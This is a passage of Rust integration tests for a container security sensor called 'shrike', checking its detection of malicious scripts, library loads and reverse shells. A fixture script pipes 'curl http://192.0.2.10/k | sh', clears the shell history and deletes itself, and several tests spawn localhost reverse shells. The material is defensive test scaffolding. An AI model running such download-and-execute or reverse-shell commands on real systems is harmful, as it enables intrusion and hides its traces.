cat > /tmp/update.sh <<'END'
#!/bin/sh
if [ -n "$SHRIKE_NEVER_SET" ]; then
  curl -s http://192.0.2.10/k | sh
  history -c
  rm -f "$0"
fi
exit 0
END
cat > /tmp/entrypoint.sh <<'END'
#!/bin/bash
(echo > /dev/tcp/127.0.0.1/1) 2>/dev/null || true
if [ -n "$CONFIG_B64" ]; then echo "$CONFIG_B64" | base64 -d > /tmp/config.yml; fi
exit 0
END
chmod +x /tmp/update.sh /tmp/entrypoint.sh
"#;
    assert!(c.exec(&["sh", "-c", setup]).status.success());
    assert!(c.exec(&["sh", "/tmp/tunnel.sh"]).status.success());
    assert!(c.exec(&["/tmp/update.sh"]).status.success());
    assert!(c.exec(&["/tmp/entrypoint.sh"]).status.success());
    let stopped = watch.stop();

    let scripts = in_container(&stopped, "MALICIOUS_SCRIPT_EXECUTED", &c);
    let path_of = |f: &Value| {
        f["finding"]["sourceProperties"]["Script_Path"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let mut paths: Vec<String> = scripts.iter().map(|f| path_of(f)).collect();
    paths.sort();
    assert_eq!(paths, ["/tmp/tunnel.sh", "/tmp/update.sh"], "{scripts:#?}");
    for f in &scripts {
        let props = &f["finding"]["sourceProperties"];
        assert!(props["Shell_Script_Score"].as_f64().unwrap() >= 0.8, "{f}");
        assert!(props["Yara_Rules"].is_null(), "{f}");
        let script = &f["finding"]["processes"][0]["script"];
        assert_eq!(script["path"], path_of(f).as_str(), "{f}");
        assert!(script["sha256"].is_string(), "{f}");
        assert_container_fields(f, &c);
    }
    let tunnel = scripts
        .iter()
        .find(|f| path_of(f) == "/tmp/tunnel.sh")
        .unwrap();
    assert!(
        tunnel["finding"]["sourceProperties"]["Shell_Script_Indicators"]
            .as_str()
            .unwrap()
            .starts_with("an interactive shell over /dev/tcp"),
        "{tunnel}"
    );
    assert_recording_replays(&stopped);
}

/// A shared library built here with the host C compiler, carrying `marker` in its read-only
/// data; its bytes.
fn shared_library(marker: &str) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("lib.c");
    std::fs::write(
        &src,
        format!(
            "__attribute__((used)) const char shrike_live_marker[] = \"{marker}\";\n\
             int shrike_live_function(void) {{ return 1; }}\n"
        ),
    )
    .unwrap();
    let out = dir.path().join("lib.so");
    let cc = std::env::var("CC").unwrap_or_else(|_| "cc".into());
    let status = Command::new(&cc)
        .args(["-shared", "-fPIC", "-o"])
        .arg(&out)
        .arg(&src)
        .status()
        .unwrap_or_else(|e| panic!("running {cc}: {e}"));
    assert!(status.success(), "{cc} -shared failed");
    std::fs::read(&out).unwrap()
}

#[test]
fn libraries_loaded_in_a_real_container_are_reported_by_layer_and_intel() {
    if !live_allowed("libraries_loaded_in_a_real_container_are_reported_by_layer_and_intel") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let image_dir = image_dir();
    let run = format!("{}-{:?}", std::process::id(), Instant::now());
    let marked = shared_library(&format!("SHRIKE-LIB-MARK-{run}"));
    let listed = shared_library(&format!("SHRIKE-LIB-FEED-{run}"));
    let clean = shared_library(&format!("SHRIKE-LIB-CLEAN-{run}"));
    let marked_sha = sha256_hex(&marked);
    let listed_sha = sha256_hex(&listed);
    // In the image: a library matching a YARA rule, one listed on a hash feed, a clean one, and
    // a clean one the container will overwrite with the marked bytes.
    let lib_mark = ImageFile::create(image_dir.path(), "libmark.so", &marked);
    let lib_feed = ImageFile::create(image_dir.path(), "libfeed.so", &listed);
    let lib_clean = ImageFile::create(image_dir.path(), "libclean.so", &clean);
    let lib_mod = ImageFile::create(image_dir.path(), "libmod.so", &clean);
    let [mark, feed, clean_path, modified] =
        [&lib_mark, &lib_feed, &lib_clean, &lib_mod].map(|f| f.0.to_str().unwrap().to_owned());
    let intel_dir = tempfile::tempdir().unwrap();
    let rules = intel_dir.path().join("libs.yar");
    std::fs::write(
        &rules,
        format!(
            "rule shrike_live_library {{\n  strings:\n    $m = \"SHRIKE-LIB-MARK-{run}\"\n  condition:\n    uint32(0) == 0x464c457f and $m\n}}\n"
        ),
    )
    .unwrap();
    let loki = intel_dir.path().join("libs.loki");
    std::fs::write(&loki, format!("{listed_sha};Test.Library.Implant\n")).unwrap();

    let watch = Watch::start(&[
        "--intel",
        rules.to_str().unwrap(),
        "--intel",
        loki.to_str().unwrap(),
    ]);
    let c = TestContainer::start("lib-web", "registry.example.com/lib/web:1");
    let preload = |lib: &str, marker: &str| {
        // argv carries a marker so each run is found in the recording.
        let out = c.exec(&["sh", "-c", &format!("LD_PRELOAD={lib} /bin/echo {marker}")]);
        assert!(out.status.success(), "{out:?}");
        assert!(out.stderr.is_empty(), "the preload failed: {out:?}");
    };
    preload(&mark, "built-in-yara");
    preload(&feed, "built-in-feed");
    preload(&clean_path, "built-in-clean");
    assert!(c
        .exec(&["sh", "-c", &format!("cp {clean_path} /tmp/libadded.so && cp {mark} /tmp/libevil.so && cat {mark} > {modified}")])
        .status
        .success());
    preload("/tmp/libadded.so", "added-clean");
    preload("/tmp/libevil.so", "added-yara");
    preload(&modified, "modified-yara");
    // An ordinary dynamically linked pipeline: the image's libc and friends, nothing to report.
    assert!(c
        .exec(&["sh", "-c", "ls -l / | sort | wc -l"])
        .status
        .success());
    let stopped = watch.stop();

    let execs = recorded_execs(&stopped);
    let pid_of_run = |marker: &str| exec_with_arg(&execs, 1, marker)["pid"].as_u64().unwrap();
    let finding_for = |module: &'static str, marker: &str| {
        let pid = pid_of_run(marker);
        let found: Vec<&Value> = in_container(&stopped, module, &c)
            .into_iter()
            .filter(|f| f["finding"]["processes"][0]["pid"] == pid)
            .collect();
        assert_eq!(found.len(), 1, "{module} for {marker}: {found:#?}");
        found[0]
    };
    let expect = [
        (
            "BUILT_IN_MALICIOUS_LIBRARY_LOADED",
            "built-in-yara",
            mark.as_str(),
            "lower",
            &marked_sha,
        ),
        (
            "BUILT_IN_MALICIOUS_LIBRARY_LOADED",
            "built-in-feed",
            feed.as_str(),
            "lower",
            &listed_sha,
        ),
        (
            "ADDED_MALICIOUS_LIBRARY_LOADED",
            "added-yara",
            "/tmp/libevil.so",
            "upper",
            &marked_sha,
        ),
        (
            "MODIFIED_MALICIOUS_LIBRARY_LOADED",
            "modified-yara",
            modified.as_str(),
            "copied_up",
            &marked_sha,
        ),
    ];
    for (module, marker, path, layer, sha) in expect {
        let f = finding_for(module, marker);
        let finding = &f["finding"];
        let process = &finding["processes"][0];
        assert_eq!(process["binary"]["path"], "/usr/bin/echo", "{f}");
        assert_eq!(process["libraries"][0]["path"], path, "{f}");
        assert_eq!(process["libraries"][0]["sha256"], sha.as_str(), "{f}");
        let props = &finding["sourceProperties"];
        assert_eq!(props["Library_Path"], path, "{f}");
        assert_eq!(props["Library_Layer"], layer, "{f}");
        assert_eq!(props["Library_Sha256"], sha.as_str(), "{f}");
        if marker == "built-in-feed" {
            assert_eq!(props["Intel_Comment"], "Test.Library.Implant", "{f}");
            assert!(
                finding["indicator"]["signatures"][0]["memoryHashSignature"].is_object(),
                "{f}"
            );
        } else {
            assert_eq!(props["Yara_Rules"], "shrike_live_library", "{f}");
            assert_eq!(
                finding["indicator"]["signatures"][0]["yaraRuleSignature"]["yaraRule"],
                "shrike_live_library",
                "{f}"
            );
        }
        assert_container_fields(f, &c);
    }
    for (marker, path, layer) in [
        ("added-clean", "/tmp/libadded.so", "upper"),
        ("added-yara", "/tmp/libevil.so", "upper"),
        ("modified-yara", modified.as_str(), "copied_up"),
    ] {
        let f = finding_for("ADDED_LIBRARY_LOADED", marker);
        assert_eq!(
            f["finding"]["processes"][0]["libraries"][0]["path"], path,
            "{f}"
        );
        assert_eq!(
            f["finding"]["sourceProperties"]["Library_Layer"], layer,
            "{f}"
        );
        assert_container_fields(f, &c);
    }
    // The image's libraries (the clean one preloaded, libc under every process) and the
    // pipeline are silent: only the runs above have library findings.
    let expected_pids: Vec<u64> = [
        "built-in-yara",
        "built-in-feed",
        "added-clean",
        "added-yara",
        "modified-yara",
    ]
    .iter()
    .map(|m| pid_of_run(m))
    .collect();
    for f in all_in_container(&stopped, &c) {
        let module = f["finding"]["moduleName"].as_str().unwrap();
        if module.contains("LIBRARY") {
            let pid = f["finding"]["processes"][0]["pid"].as_u64().unwrap();
            assert!(expected_pids.contains(&pid), "{f}");
        }
    }
    // The recording holds the library events, each with its identity and verdicts.
    let text = std::fs::read_to_string(stopped.dir.path().join("events.jsonl")).unwrap();
    let libraries: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["kind"] == "library")
        .collect();
    let clean_load = libraries
        .iter()
        .find(|e| e["library"]["path"] == clean_path.as_str())
        .unwrap_or_else(|| panic!("no library event for {clean_path}: {libraries:#?}"));
    assert_eq!(clean_load["library"]["layer"], "lower");
    assert_eq!(clean_load["library"]["sha256"], sha256_hex(&clean).as_str());
    assert!(clean_load["container"]["id"] == c.id(), "{clean_load}");
    assert!(
        libraries.iter().any(|e| e["library"]["path"]
            .as_str()
            .is_some_and(|p| p.contains("libc.so"))),
        "the image's libc is seen loading too"
    );
    assert_recording_replays(&stopped);
}

/// `GET path` on 127.0.0.1:port, the body.
fn http_get(port: u16, path: &str) -> String {
    let mut conn = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    write!(conn, "GET {path} HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n").unwrap();
    let mut text = String::new();
    conn.read_to_string(&mut text).unwrap();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    assert!(head.contains(" 200 "), "{head}");
    body.to_owned()
}

/// The value of one series of a metrics page (0 when absent).
fn metric(page: &str, series: &str) -> f64 {
    fleet::sample(page, series).unwrap_or(0.0)
}

#[test]
fn watch_counts_what_it_sees_at_metrics_and_publishes_to_nats() {
    if !live_allowed("watch_counts_what_it_sees_at_metrics_and_publishes_to_nats") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let nats = fleet::NatsServer::start();
    let store = tempfile::tempdir().unwrap();
    let sqlite = format!("sqlite:{}", store.path().join("shrike.db").display());
    let nats_sink = nats.url("live.findings");
    let port = fleet::free_port();
    let listen = format!("127.0.0.1:{port}");
    let watch = Watch::start(&["--listen", &listen, "--sink", &sqlite, "--sink", &nats_sink]);
    let (_, out, _) = reverse_shell("127.0.0.1:0", "127.0.0.1", "id\nexit\n");
    assert!(out.contains("uid=0"), "{out}");

    // The counters move within a second or two (the sensor's are copied every second).
    let deadline = Instant::now() + Duration::from_secs(20);
    let page = loop {
        let page = http_get(port, "/metrics");
        let published = metric(
            &page,
            &format!("shrike_sink_deliveries_total{{sink=\"{nats_sink}\"}}"),
        );
        // The sensor's hashing counters are copied once a second: wait for them too.
        let hashed = metric(&page, "shrike_executables_hashed_total");
        if (published >= 1.0 && hashed >= 1.0) || Instant::now() > deadline {
            break page;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let stopped = watch.stop();
    assert!(
        stopped.of_module("REVERSE_SHELL").count() >= 1,
        "{:?}",
        stopped.log
    );
    for series in [
        "shrike_events_total{kind=\"exec\"}",
        "shrike_events_total{kind=\"fork\"}",
        "shrike_findings_total{category=\"Reverse Shell\"}",
        "shrike_stage_latency_seconds_count{stage=\"exec_to_detect\"}",
        "shrike_stage_latency_seconds_count{stage=\"exec_to_stored\"}",
        &format!("shrike_sink_deliveries_total{{sink=\"{sqlite}\"}}"),
        &format!("shrike_sink_deliveries_total{{sink=\"{nats_sink}\"}}"),
        "shrike_executables_hashed_total",
    ] {
        assert!(
            metric(&page, series) >= 1.0,
            "{series} missing or zero in:\n{page}"
        );
    }
    // Nothing was lost, and each loss reason is on the page at zero.
    for reason in [
        "ring_buffer_full_exec",
        "ring_buffer_full_fork",
        "ring_buffer_full_exit",
        "undecodable",
    ] {
        let series = format!("shrike_events_lost_total{{reason=\"{reason}\"}}");
        assert!(page.contains(&series), "{series} not on the page:\n{page}");
    }
    assert!(
        page.contains(&format!(
            "shrike_sink_spool_records{{sink=\"{nats_sink}\"}}"
        )),
        "{page}"
    );
    // The exec → detection latency of a live finding is small: every observation under 5 s.
    let under_5s = metric(
        &page,
        "shrike_stage_latency_seconds_bucket{stage=\"exec_to_detect\",le=\"5\"}",
    );
    let all = metric(
        &page,
        "shrike_stage_latency_seconds_count{stage=\"exec_to_detect\"}",
    );
    assert_eq!(under_5s, all, "{page}");
}

/// What `shrike watch` keeps after attach (docs/deploy.md, "Privileges after start"):
/// CAP_DAC_READ_SEARCH (bit 2) and CAP_SYS_PTRACE (bit 19).
const KEPT_AFTER_ATTACH: u64 = (1 << 2) | (1 << 19);

/// A `/proc/…/status` field's value.
fn status_field(status: &str, name: &str) -> String {
    status
        .lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(':'))
        .unwrap_or_else(|| panic!("no {name} in {status}"))
        .trim()
        .to_owned()
}

fn status_caps(status: &str, name: &str) -> u64 {
    u64::from_str_radix(&status_field(status, name), 16).unwrap()
}

#[test]
fn watch_keeps_two_capabilities_after_attach_and_still_detects_and_hashes() {
    if !live_allowed("watch_keeps_two_capabilities_after_attach_and_still_detects_and_hashes") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    // The store's writer and the API's runtime are threads: each must have dropped too.
    let store = tempfile::tempdir().unwrap();
    let sqlite = format!("sqlite:{}", store.path().join("shrike.db").display());
    let listen = format!("127.0.0.1:{}", fleet::free_port());
    let watch = Watch::start(&["--listen", &listen, "--sink", &sqlite]);
    let pid = watch.child.id();
    let tasks: Vec<_> = std::fs::read_dir(format!("/proc/{pid}/task"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert!(tasks.len() > 1, "threads of the store and API: {tasks:?}");
    for task in &tasks {
        let status = std::fs::read_to_string(task.join("status")).unwrap();
        let name = status_field(&status, "Name");
        for set in ["CapEff", "CapPrm", "CapBnd"] {
            assert_eq!(
                status_caps(&status, set),
                KEPT_AFTER_ATTACH,
                "{task:?} ({name}): {set} {}",
                status_field(&status, set)
            );
        }
        assert_eq!(status_caps(&status, "CapInh"), 0, "{task:?} ({name})");
        assert_eq!(status_caps(&status, "CapAmb"), 0, "{task:?} ({name})");
        assert_eq!(
            status_field(&status, "NoNewPrivs"),
            "1",
            "{task:?} ({name})"
        );
    }

    // With only those two, a root reverse shell (whose process holds every capability, so
    // reading its /proc needs CAP_SYS_PTRACE) is still seen, hashed and reported.
    let (_, out, port) = reverse_shell("127.0.0.1:0", "127.0.0.1", "id\nexit\n");
    assert!(out.contains("uid=0"), "{out}");
    let stopped = watch.stop();
    let shell = stopped
        .of_module("REVERSE_SHELL")
        .find(|f| {
            f["finding"]["sourceProperties"]["Reverse_Shell_Stdin_Redirection_Dst_Port"] == port
        })
        .unwrap_or_else(|| panic!("no reverse shell: {:#?}", stopped.findings));
    let binary = &shell["finding"]["processes"][0]["binary"];
    assert_eq!(binary["path"], "/usr/bin/bash");
    let bash = std::fs::read("/usr/bin/bash").unwrap();
    assert_eq!(binary["sha256"], sha256_of(&bash), "{shell}");
    assert_eq!(
        shell["finding"]["sourceProperties"]["Reverse_Shell_Redirected_Fd"],
        "stdin"
    );
    assert!(
        !stopped.log.iter().any(|l| l.contains("more privileges")),
        "{:?}",
        stopped.log
    );
}

fn sha256_of(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// Every path under `dir` with its mode, for the assertion message.
fn modes_under(dir: &Path) -> Vec<(PathBuf, u32)> {
    use std::os::unix::fs::PermissionsExt;
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            let meta = std::fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                stack.push(path.clone());
            }
            out.push((path, meta.permissions().mode() & 0o7777));
        }
    }
    out.sort();
    out
}

#[test]
fn watch_under_umask_000_creates_nothing_world_writable() {
    if !live_allowed("watch_under_umask_000_creates_nothing_world_writable") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let path = |name: &str| data.join(name).to_str().unwrap().to_owned();
    // A webhook nobody answers keeps its findings in the spool.
    let dead = fleet::free_port();
    let mut child = Command::new("sh")
        .args([
            "-c",
            "umask 000; : > \"$SHRIKE_TEST_CONTROL\"; exec \"$0\" \"$@\"",
        ])
        .arg(assert_cmd::cargo::cargo_bin("shrike"))
        .args(["watch", "--no-console", "--data-dir", &path(""), "--record"])
        .arg(path("events.jsonl"))
        .args(["--sink", &format!("sqlite:{}", path("shrike.db"))])
        .args(["--sink", &format!("jsonl:{}", path("findings.jsonl"))])
        .args(["--sink", &format!("ocsf:{}", path("findings.ocsf"))])
        .args(["--sink", &format!("webhook:http://127.0.0.1:{dead}/hook")])
        .env("SHRIKE_TEST_CONTROL", dir.path().join("control"))
        .env("SHRIKE_LOG", "error")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    while !line.contains("sensor attached") {
        line.clear();
        assert!(stderr.read_line(&mut line).unwrap() > 0, "watch died");
    }
    let (_, out, _) = reverse_shell("127.0.0.1:0", "127.0.0.1", "id\nexit\n");
    assert!(out.contains("uid=0"), "{out}");
    // Wait for the finding to reach the sinks, then look while the store is open (its -wal and
    // -shm exist only then).
    let deadline = Instant::now() + Duration::from_secs(30);
    while std::fs::metadata(path("findings.jsonl")).map_or(0, |m| m.len()) == 0 {
        assert!(Instant::now() < deadline, "no finding written");
        std::thread::sleep(Duration::from_millis(100));
    }
    std::thread::sleep(Duration::from_millis(500));
    let running = modes_under(&data);
    assert!(Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap()
        .success());
    let status = child.wait().unwrap();
    let mut rest = String::new();
    stderr.read_to_string(&mut rest).unwrap();
    assert!(status.success(), "{rest}");
    let stopped = modes_under(&data);

    use std::os::unix::fs::PermissionsExt;
    let control = std::fs::metadata(dir.path().join("control")).unwrap();
    assert_eq!(
        control.permissions().mode() & 0o777,
        0o666,
        "the umask really was 000"
    );
    let names: Vec<String> = running
        .iter()
        .chain(&stopped)
        .filter_map(|(p, _)| p.file_name()?.to_str().map(str::to_owned))
        .collect();
    for expected in [
        "shrike.db",
        "shrike.db-wal",
        "shrike.db-shm",
        "shrike-watch.state",
        "events.jsonl",
        "findings.jsonl",
        "findings.ocsf",
        "spool",
    ] {
        assert!(
            names.iter().any(|n| n == expected),
            "{expected} not created: {running:#?}"
        );
    }
    for (path, mode) in running.iter().chain(&stopped) {
        assert_eq!(mode & 0o002, 0, "{path:?} is world-writable: {mode:o}");
    }
    let mode_of = |name: &str| {
        stopped
            .iter()
            .find(|(p, _)| p.file_name().and_then(|n| n.to_str()) == Some(name))
            .map(|(_, m)| *m)
            .unwrap()
    };
    assert_eq!(mode_of("events.jsonl"), 0o600);
    assert_eq!(mode_of("shrike-watch.state"), 0o600);
    assert_eq!(mode_of("findings.jsonl"), 0o640);
    assert_eq!(mode_of("findings.ocsf"), 0o640);
}

// ---------------------------------------------------------------------------------------------
// Hostile input (docs/reliability.md, "Hostile input"): what processes choose to throw at the
// sensor ends in a bounded, marked truncation or a clear error, never in a crash or a hang.

/// The exec events of a stopped watch's recording. Its summary goes to the test's output: an
/// event missing under heavy load was most likely lost in the kernel, and says so there.
fn recorded_execs(stopped: &Stopped) -> Vec<Value> {
    eprintln!("{}", stopped.summary_line());
    let text = std::fs::read_to_string(stopped.dir.path().join("events.jsonl")).unwrap();
    text.lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|e| e["kind"] == "exec")
        .collect()
}

/// The recorded exec whose `argv[i]` is `arg`.
fn exec_with_arg<'a>(execs: &'a [Value], i: usize, arg: &str) -> &'a Value {
    execs
        .iter()
        .find(|e| e["argv"][i] == arg)
        .unwrap_or_else(|| {
            panic!(
                "no exec with argv[{i}] = {arg:?} among {} execs",
                execs.len()
            )
        })
}

/// `shrike replay` of a watch's recording succeeds: every hostile event is valid input.
fn assert_recording_replays(stopped: &Stopped) {
    let out = Command::new(assert_cmd::cargo::cargo_bin("shrike"))
        .arg("replay")
        .arg(stopped.dir.path().join("events.jsonl"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "replay failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Returns once the sensor has been through every event of what ran before the call: a reverse
/// shell started now is reported only after the events ahead of it. A watch can be seconds
/// behind (its start hashes every running executable, and a debug build hashes slowly), and a
/// test that needs a process alive while the sensor reads its /proc keeps it alive until then.
fn wait_until_sensor_caught_up(watch: &Watch) {
    let shells = |path: &Path| {
        std::fs::read_to_string(path)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.contains("\"REVERSE_SHELL\""))
            .count()
    };
    let before = shells(&watch.findings_path());
    let _ = reverse_shell("127.0.0.1:0", "127.0.0.1", "exit\n");
    let deadline = Instant::now() + Duration::from_secs(120);
    while shells(&watch.findings_path()) <= before {
        assert!(
            Instant::now() < deadline,
            "the sensor did not catch up in 120 s"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest;
    hex::encode(sha2::Sha256::digest(bytes))
}

#[test]
fn hostile_command_lines_paths_and_environments_end_in_marked_truncation() {
    if !live_allowed("hostile_command_lines_paths_and_environments_end_in_marked_truncation") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::process::CommandExt;
    let marker = format!("shrike-hostile-{}", std::process::id());
    let dir = tempfile::tempdir().unwrap();
    // A tool at a path that is not UTF-8, unique so the hash cache has never seen it.
    let bad_dir = dir.path().join(OsStr::from_bytes(b"bin-\xff"));
    std::fs::create_dir(&bad_dir).unwrap();
    let (tool_bytes, tool_sha) = tool_bytes(&marker);
    let tool = ImageFile::create(&bad_dir, "tool-\u{e9}", &tool_bytes).0;
    let tool = {
        let renamed = bad_dir.join(OsStr::from_bytes(b"tool-\xfe"));
        std::fs::rename(&tool, &renamed).unwrap();
        renamed
    };
    let watch = Watch::start(&[]);

    // Close to ARG_MAX: 14 arguments of MAX_ARG_STRLEN - 1 bytes (1.8 MiB), no environment.
    let huge = "A".repeat(128 * 1024 - 1);
    let argmax = format!("{marker}-argmax");
    let status = Command::new("/bin/true")
        .arg(&argmax)
        .args(std::iter::repeat_n(&huge, 14))
        .env_clear()
        .status()
        .unwrap();
    assert!(status.success());

    // Arguments and a path that are not UTF-8.
    let utf8 = format!("{marker}-utf8");
    let status = Command::new(&tool)
        .arg(&utf8)
        .arg(OsStr::from_bytes(b"\xff\xfe\xc3("))
        .status()
        .unwrap();
    assert!(status.success());

    // An environment with a value that is not UTF-8 and one far longer than kept.
    let env_marker = format!("{marker}-env");
    let mut sleeper = Command::new("/bin/sleep")
        .arg0(&env_marker)
        .arg("600")
        .env_clear()
        .env("HOME", OsStr::from_bytes(b"/home/\xff"))
        .env("LANG", "L".repeat(3000))
        .env("PATH", "/usr/bin:/bin")
        .spawn()
        .unwrap();
    // Its environment is read from /proc while it runs.
    wait_until_sensor_caught_up(&watch);
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();

    let stopped = watch.stop();
    let execs = recorded_execs(&stopped);

    let e = exec_with_arg(&execs, 1, &argmax);
    assert_eq!(e["argv_truncated"], true, "{}", &e.to_string()[..500]);
    let kept: usize = e["argv"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap().len() + 1)
        .sum();
    assert!(kept <= 2048 + 1, "{kept} bytes of argv kept");
    assert_eq!(e["argv"][0], "/bin/true");
    assert!(e["argv"][2].as_str().unwrap().starts_with("AAAA"));

    let e = exec_with_arg(&execs, 1, &utf8);
    assert_eq!(e["argv"][2], "\u{fffd}\u{fffd}\u{fffd}(");
    assert_eq!(e["argv_truncated"], false);
    assert_eq!(
        e["exe"]["path"].as_str().unwrap(),
        format!("{}/bin-\u{fffd}/tool-\u{fffd}", dir.path().display())
    );
    assert_eq!(e["exe"]["sha256"], tool_sha.as_str(), "{e}");

    let e = exec_with_arg(&execs, 0, &env_marker);
    assert_eq!(e["env"]["HOME"], "/home/\u{fffd}", "{e}");
    assert_eq!(e["env"]["LANG"].as_str().unwrap(), "L".repeat(1024));
    assert_eq!(e["env"]["PATH"], "/usr/bin:/bin");
    assert_eq!(e["env_truncated"], true);

    assert!(
        stopped.summary_line().contains(" 0 undecodable"),
        "{}",
        stopped.summary_line()
    );
    assert_recording_replays(&stopped);
}

#[test]
fn large_and_oddly_encoded_scripts_are_captured_in_part_and_hashed_whole() {
    if !live_allowed("large_and_oddly_encoded_scripts_are_captured_in_part_and_hashed_whole") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    let dir = tempfile::tempdir().unwrap();
    let marker = format!("shrike-script-{}", std::process::id());
    let ten_mb = 10 << 20;
    let pad = |mut head: Vec<u8>| {
        while head.len() < ten_mb {
            head.extend_from_slice(b"# padding padding padding padding padding padding padding\n");
        }
        head.truncate(ten_mb - 1);
        head.push(b'\n');
        head
    };
    let scripts: Vec<(&str, Vec<u8>)> = vec![
        // 10 MB: Python reads it all; the shell stops at `exit`.
        (
            "big.py",
            pad(format!("# {marker}\nprint('big')\n").into_bytes()),
        ),
        (
            "big.sh",
            pad(format!("#!/bin/sh\n# {marker}\nexit 0\n").into_bytes()),
        ),
        // Encodings: a PEP 263 latin-1 cookie, a UTF-8 BOM, UTF-16 (Python refuses it), NUL
        // bytes (refused too), and UTF-7 (Python runs it).
        (
            "latin1.py",
            b"# -*- coding: latin-1 -*-\nprint('caf\xe9')\n".to_vec(),
        ),
        ("bom.py", b"\xef\xbb\xbfprint('bom')\n".to_vec()),
        (
            "utf16.py",
            [
                &b"\xff\xfe"[..],
                &"print('x')\n"
                    .encode_utf16()
                    .flat_map(u16::to_le_bytes)
                    .collect::<Vec<u8>>(),
            ]
            .concat(),
        ),
        ("nul.py", b"print(1)\0\0\xff\xfe\n".to_vec()),
        ("utf7.py", b"# coding: utf-7\n+AGk-mport os\n".to_vec()),
    ];
    for (name, bytes) in &scripts {
        ImageFile::create(dir.path(), name, bytes);
    }
    let watch = Watch::start(&[]);
    for (name, _) in &scripts {
        let path = dir.path().join(name);
        let mut cmd = if name.ends_with(".sh") {
            Command::new(&path)
        } else {
            let mut c = Command::new("/usr/bin/python3");
            c.arg(&path);
            c
        };
        // Python refuses some of these files; what matters is what the sensor made of them.
        let out = cmd.stdin(Stdio::null()).output().unwrap();
        if matches!(
            *name,
            "big.py" | "big.sh" | "latin1.py" | "bom.py" | "utf7.py"
        ) {
            assert!(
                out.status.success(),
                "{name}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
    let stopped = watch.stop();
    let execs = recorded_execs(&stopped);
    for (name, bytes) in &scripts {
        let path = dir.path().join(name);
        let path = path.to_str().unwrap();
        let e = execs
            .iter()
            .find(|e| e["script"]["path"] == path)
            .unwrap_or_else(|| panic!("{name}: no exec with its script captured"));
        let script = &e["script"];
        assert_eq!(script["size"], bytes.len(), "{name}");
        assert_eq!(script["sha256"], sha256_hex(bytes).as_str(), "{name}");
        let contents = script["contents"].as_str().unwrap();
        if bytes.len() > 64 * 1024 {
            assert_eq!(script["truncated"], true, "{name}");
            assert_eq!(contents.len(), 64 * 1024, "{name}");
            assert!(contents.contains(&marker), "{name}");
        } else {
            assert_eq!(script["truncated"], false, "{name}");
            assert_eq!(contents, String::from_utf8_lossy(bytes), "{name}");
        }
    }
    assert_recording_replays(&stopped);
}

#[test]
fn deleted_and_vanishing_executables_are_flagged_hashed_or_reported() {
    if !live_allowed("deleted_and_vanishing_executables_are_flagged_hashed_or_reported") {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
    use std::os::unix::process::CommandExt;
    let marker = format!("shrike-vanish-{}", std::process::id());
    let dir = tempfile::tempdir().unwrap();
    let sleep = std::fs::read("/usr/bin/sleep").unwrap();
    let watch = Watch::start(&[]);

    // Deleted before it runs: opened, unlinked, then executed through its descriptor.
    let deleted = ImageFile::create(dir.path(), "deleted-sleep", &sleep).0;
    let deleted_marker = format!("{marker}-deleted");
    let script = format!(
        "import os; fd = os.open({:?}, os.O_RDONLY); os.unlink({:?}); os.execve(f'/proc/self/fd/{{fd}}', [{:?}, '600'], {{}})",
        deleted.to_str().unwrap(),
        deleted.to_str().unwrap(),
        deleted_marker
    );
    let mut deleted_run = Command::new("/usr/bin/python3")
        .args(["-c", &script])
        .spawn()
        .unwrap();
    // Kept running until the sensor has seen it: a deleted file is hashed through the process.
    let cmdline = format!("/proc/{}/cmdline", deleted_run.id());
    let deadline = Instant::now() + Duration::from_secs(30);
    while !std::fs::read(&cmdline).is_ok_and(|c| c.starts_with(deleted_marker.as_bytes())) {
        assert!(
            Instant::now() < deadline,
            "python3 did not exec the deleted file"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    wait_until_sensor_caught_up(&watch);
    deleted_run.kill().unwrap();
    deleted_run.wait().unwrap();

    // Gone as soon as it has run: each copy is removed the moment its process exits, racing
    // the sensor's hashing.
    let mut vanished = Vec::new();
    for i in 0..20 {
        let (bytes, sha) = tool_bytes(&format!("{marker}-{i}"));
        let path = ImageFile::create(dir.path(), &format!("vanish-{i}"), &bytes).0;
        let name = format!("{marker}-{i}");
